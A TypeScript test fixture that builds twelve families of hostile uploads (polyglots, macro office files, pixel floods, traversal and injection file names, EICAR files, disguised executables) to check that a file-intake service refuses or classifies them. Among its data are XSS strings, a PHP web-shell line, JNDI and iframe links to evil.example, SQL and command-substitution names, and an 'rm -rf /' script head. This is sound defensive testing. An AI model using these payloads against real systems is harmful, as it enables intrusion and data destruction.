/**
 * What strangers upload to do harm: twelve families, the same files from the same seed. Each says what has to become of it:
 * a reason it is refused for, or the kind it is kept as, with nothing shown of it unless `shown` says so.
 */
import { gzipSync } from 'node:zlib';
import type { FileKind } from '@tandem/core';
import { seededRandom } from '../../accounts/testing.ts';
import type { RefusedBecause } from '../look/look.ts';
import { badArchives, bombs } from './hostile-archives.ts';
import { activePages, hostilePdfs } from './hostile-pages.ts';
import { makeZip } from './make-zip.ts';
import { aPdf, aPicture } from './small-files.ts';

export interface HostileFile {
  readonly family: string;
  readonly name: string;
  readonly bytes: Uint8Array;
  readonly becomes: RefusedBecause | FileKind;
  /** Its pages are drawn here anew, as images. */
  readonly shown?: true;
}

export async function hostileFiles(seed = 'hostile'): Promise<readonly HostileFile[]> {
  const random = seededRandom(seed);
  const all = await Promise.all([
    polyglots(),
    activePages(),
    office(),
    hostilePdfs(),
    bombs(),
    badArchives(),
    pictures(),
    wrongTypes(random),
    sizes(random),
    names(),
    malware(),
    programs(random),
  ]);
  return all.flat();
}

async function polyglots(): Promise<HostileFile[]> {
  const [png, jpeg, gif, webp, pdf] = [
    await aPicture('png'),
    await aPicture('jpeg'),
    await aPicture('gif'),
    await aPicture('webp'),
    await aPdf(),
  ];
  const jar = makeZip([{ name: 'META-INF/MANIFEST.MF', content: Buffer.from('Main-Class: X') }]);
  const file = (name: string, ...parts: (Buffer | string)[]): HostileFile => ({
    ...{ family: 'polyglots', name, becomes: 'other' },
    bytes: Buffer.concat(parts.map((part) => Buffer.from(part))),
  });
  const script = '<script>alert(document.domain)</script>';
  return [
    file('gifar.gif', gif, jar),
    file('pngjar.png', png, jar),
    file('jpegjar.jpg', jpeg, jar),
    file('webpjar.webp', webp, jar),
    file('pdfjar.pdf', pdf, jar),
    file('html-in.png', png, '<html><body>', script),
    file('html-in.jpg', jpeg, '<!doctype html>', script),
    file('html-in.gif', gif, script),
    file('svg-in.png', png, '<svg onload=alert(1)>'),
    file('php-in.jpg', jpeg, '<?php system($_GET[0]);'),
    file('frame-in.webp', webp, '<IFRAME src=//evil.example>'),
    file('pdf-in.png', png, pdf),
    file('gif-comment.gif', 'GIF89a/*', `*/=1;${script}`),
    file('html-before.pdf', '<html>', script, pdf),
    file('html-within-head.pdf', `%PDF-1.4\n<html>${script}`, pdf.subarray(9)),
  ];
}

function office(): HostileFile[] {
  const part = { word: 'word/document.xml', xl: 'xl/workbook.xml', ppt: 'ppt/presentation.xml' } as const;
  const zipped = (kind: keyof typeof part, more: string[] = []) =>
    makeZip(['[Content_Types].xml', part[kind], ...more].map((name) => ({ name, content: Buffer.from(`<${name}/>`) })));
  const compound = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(3000)]);
  const file = (name: string, bytes: Buffer, becomes: HostileFile['becomes']): HostileFile => ({ family: 'office', name, bytes, becomes });
  return [
    file('hidden.docx', zipped('word', ['word/vbaProject.bin']), 'hidden-macros'),
    file('hidden.xlsx', zipped('xl', ['xl/vbaProject.bin']), 'hidden-macros'),
    file('hidden.pptx', zipped('ppt', ['ppt/vbaProject.bin']), 'hidden-macros'),
    file('old-macros.xlsx', zipped('xl', ['xl/macrosheets/sheet1.xml']), 'hidden-macros'),
    file(
      'hidden.odt',
      makeZip([
        { name: 'mimetype', content: Buffer.from('odt') },
        { name: 'Basic/Standard/x.xml', content: Buffer.from('x') },
      ]),
      'hidden-macros',
    ),
    file('hidden.zip', zipped('word', ['word/vbaProject.bin']), 'hidden-macros'),
    file('said.docm', zipped('word', ['word/vbaProject.bin']), 'office'),
    file('said.xlsm', zipped('xl', ['xl/vbaProject.bin']), 'office'),
    file('said.pptm', zipped('ppt', ['ppt/vbaProject.bin']), 'office'),
    file('binary.xlsb', makeZip([{ name: 'xl/workbook.bin', content: Buffer.from('x') }]), 'office'),
    file('old.doc', compound, 'office'),
    file('old.xls', compound, 'office'),
    file('old-named-new.docx', compound, 'other'),
    file('word-named.xlsx', zipped('word'), 'other'),
    file('object.rtf', Buffer.from('{\\rtf1{\\object\\objautlink\\objupdate http://evil.example/x}}'), 'office'),
  ];
}

async function pictures(): Promise<HostileFile[]> {
  const file = (name: string, bytes: Uint8Array, becomes: HostileFile['becomes'], shown?: true): HostileFile => ({
    family: 'pictures',
    name,
    bytes,
    becomes,
    ...(shown && { shown }),
  });
  const [png, jpeg, gif, webp] = [
    await aPicture('png', 400, 300),
    await aPicture('jpeg', 400, 300),
    await aPicture('gif', 400, 300),
    await aPicture('webp', 400, 300),
  ];
  /** A header that announces more pixels than it has bytes for. */
  const flood = (width: number, height: number) => {
    const bytes = Buffer.from(png);
    bytes.writeUInt32BE(width, 16);
    bytes.writeUInt32BE(height, 20);
    return bytes;
  };
  const { default: sharp } = await import('sharp');
  const large = await sharp({ create: { width: 9000, height: 6000, channels: 3, background: '#fff' } })
    .png({ compressionLevel: 9 })
    .toBuffer();
  const floods = [
    [50_000, 50_000],
    [2 ** 31 - 1, 2 ** 31 - 1],
    [1, 2 ** 31 - 1],
    [100_000, 600],
    [8000, 6300],
  ] as const;
  const gifFlood = Buffer.from(gif);
  gifFlood.writeUInt16LE(65_535, 6);
  gifFlood.writeUInt16LE(65_535, 8);
  const withExif = await sharp(jpeg)
    .withExif({ IFD0: { ImageDescription: '" onerror="alert(1)', Artist: "'><b>x" } })
    .toBuffer();
  return [
    ...floods.map(([width, height], i) =>
      file(`flood-${i}.png`, flood(width, height), width > 2 ** 30 || height > 2 ** 30 ? 'damaged' : 'too-many-pixels'),
    ),
    // The size of the screen is not believed, only that of the picture on it.
    file('flood.gif', gifFlood, 'image', true),
    file('flood-whole.png', large, 'too-many-pixels'),
    ...[10, 30, 60, 100].map((bytes) => file(`cut-at-${bytes}.png`, png.subarray(0, bytes), 'damaged')),
    ...[20, 100, 300].map((bytes) => file(`cut-at-${bytes}.jpg`, jpeg.subarray(0, bytes), 'damaged')),
    file('cut.webp', webp.subarray(0, 30), 'damaged'),
    file('exif-words.jpg', withExif, 'image', true),
    file('png-named.jpg', png, 'image', true),
  ];
}

function wrongTypes(random: (bytes: number) => Uint8Array): HostileFile[] {
  const file = (name: string, bytes: Uint8Array | string, becomes: HostileFile['becomes'] = 'other'): HostileFile => ({
    family: 'wrong types',
    name,
    bytes: Buffer.from(bytes),
    becomes,
  });
  return [
    ...['pdf', 'png', 'docx', 'mp4', 'txt', 'csv'].map((ending) =>
      file(`noise.${ending}`, Buffer.concat([Buffer.from([0]), random(2000)])),
    ),
    file('no-ending', '%PDF-1.4 and nothing more'),
    file('named.txt', '%PDF-1.4\n%\u00e2'),
    file('empty-pages.pdf', '%PDF-1.4\n%%EOF', 'damaged'),
    file('half.pdf', '%PDF-1.7\n1 0 obj\n<</Type/Catalog', 'damaged'),
    file('zeros.pdf', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5000)]), 'damaged'),
    file('only-a-head.zip', 'PK\x03\x04', 'archive-damaged'),
    file('film.mp4', Buffer.concat([Buffer.from('\0\0\0\x18ftypisom'), random(500)]), 'film'),
    file('film-named.png', Buffer.concat([Buffer.from('\0\0\0\x18ftypisom'), random(500)])),
  ];
}

function sizes(random: (bytes: number) => Uint8Array): HostileFile[] {
  const file = (name: string, bytes: Uint8Array, becomes: HostileFile['becomes']): HostileFile => ({
    family: 'sizes',
    name,
    bytes,
    becomes,
  });
  return [
    file('one-byte.pdf', Buffer.from('%'), 'other'),
    file('one-byte.txt', Buffer.from('x'), 'text'),
    file('long-line.txt', Buffer.alloc(300_000, 'a'), 'text'),
    file('many-lines.csv', Buffer.alloc(400_000, '\n'), 'text'),
    file('too-long-to-show.txt', Buffer.alloc(6_000_000, 'word '), 'other'),
    file('noise.bin', random(3_000_000), 'other'),
  ];
}

/** What a name may try; the bytes are a harmless text. */
function names(): HostileFile[] {
  const given = [
    '../../../../etc/cron.d/x.txt',
    '..\\..\\..\\autoexec.txt',
    '/etc/passwd.txt',
    'C:\\boot.txt',
    '\\\\evil\\share\\x.txt',
    '%2e%2e%2fetc%2fpasswd.txt',
    '..%c0%af..%c0%afx.txt',
    'x\0.txt',
    'CON.txt',
    'aux.txt',
    'COM1.txt',
    'LPT9.txt',
    'nul .txt',
    `${'x'.repeat(300)}.txt`,
    `${'å'.repeat(300)}.txt`,
    '\u202etxt.gpj.txt',
    'x\u2066y.txt',
    'a\r\nSet-Cookie: sid=1.txt',
    '"; filename=evil.html; x=".txt',
    "x'; DROP TABLE file;--.txt",
    '<img src=x onerror=alert(1)>.txt',
    ['$', '{jndi:ldap://evil.example}.txt'].join(''),
    '{{7*7}}.txt',
    '=cmd|calc.txt',
    '....//....//x.txt',
    '~.txt',
    '-rf.txt',
    '.htaccess.txt',
    'x.txt:stream.txt',
    '\ud800.txt',
    `${'e\u0301\u0300'.repeat(60)}.txt`,
    '`id`.txt',
    '$(id).txt',
  ];
  return given.map((name) => ({ family: 'names', name, bytes: Buffer.from('harmless'), becomes: 'text', shown: true }));
}

function malware(): HostileFile[] {
  const eicar = Buffer.from(['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join(''));
  const zipped = makeZip([{ name: 'price.txt', content: eicar }]);
  const file = (name: string, bytes: Uint8Array): HostileFile => ({ family: 'malware', name, bytes, becomes: 'malware' });
  return [
    file('eicar.txt', eicar),
    file('eicar.pdf', Buffer.concat([Buffer.from('%PDF-1.4\n'), eicar])),
    file('eicar-late.bin', Buffer.concat([Buffer.alloc(262_144 - 30, 1), eicar])),
    file('eicar.zip', zipped),
    file('eicar-stored.zip', makeZip([{ name: 'price.txt', content: eicar, method: 0 }])),
    file('eicar-twice.zip', makeZip([{ name: 'inner.zip', content: zipped }])),
    file('eicar.txt.gz', gzipSync(eicar)),
    file(
      'eicar.docx',
      makeZip([
        { name: 'word/document.xml', content: Buffer.from('x') },
        { name: 'word/embeddings/x.bin', content: eicar },
      ]),
    ),
  ];
}

function programs(random: (bytes: number) => Uint8Array): HostileFile[] {
  const file = (name: string, head: string): HostileFile => ({
    family: 'programs',
    name,
    bytes: Buffer.concat([Buffer.from(head, 'latin1'), random(300)]),
    becomes: 'program',
  });
  return [
    file('invoice.pdf.exe', 'MZ\x90\0'),
    file('invoice.pdf', 'MZ\x90\0'),
    file('picture.png', '\x7fELF'),
    file('notes.txt', '#!/bin/sh\nrm -rf /'),
    file('report.docx', '\xcf\xfa\xed\xfe'),
    file('x.class', '\xca\xfe\xba\xbe'),
    file('open-me.lnk', 'L\0\0\0\x01\x14\x02\0'),
    ...['scr', 'bat', 'cmd', 'ps1', 'vbs', 'js', 'hta', 'jar', 'msi', 'url', 'iso', 'reg', 'command'].map((ending) =>
      file(`x.${ending}`, 'echo'),
    ),
  ];
}
